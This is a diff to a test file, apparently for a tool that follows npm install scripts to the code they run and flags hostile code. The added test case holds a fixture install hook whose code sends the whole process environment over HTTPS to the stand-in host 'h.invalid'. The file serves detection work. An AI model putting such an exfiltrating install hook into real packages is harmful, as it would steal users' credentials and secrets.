@@ -26,6 +26,11 @@ describe('what runs on install is followed to the code', () => {
   const ways: readonly [string, Readonly<Record<string, unknown>>, Files][] = [
     ['a script file', { scripts: { postinstall: 'node lib/x.js' } }, { 'lib/x.js': bad }],
     ['without its ending', { scripts: { preinstall: 'node ./lib/x' } }, { 'lib/x.js': bad }],
+    [
+      'a script that is called TypeScript',
+      { scripts: { postinstall: 'node a.ts' } },
+      { 'a.ts': `import h from 'node:https';\nconst e = process.env;\nh.request({ host: 'h.invalid' }).end(JSON.stringify(e))` },
+    ],
     ['a recipe of make', { scripts: { install: 'make setup' } }, { Makefile: 'setup:\n\t@node x.js\n', 'x.js': bad }],
     [
       'a file node is given under any name',
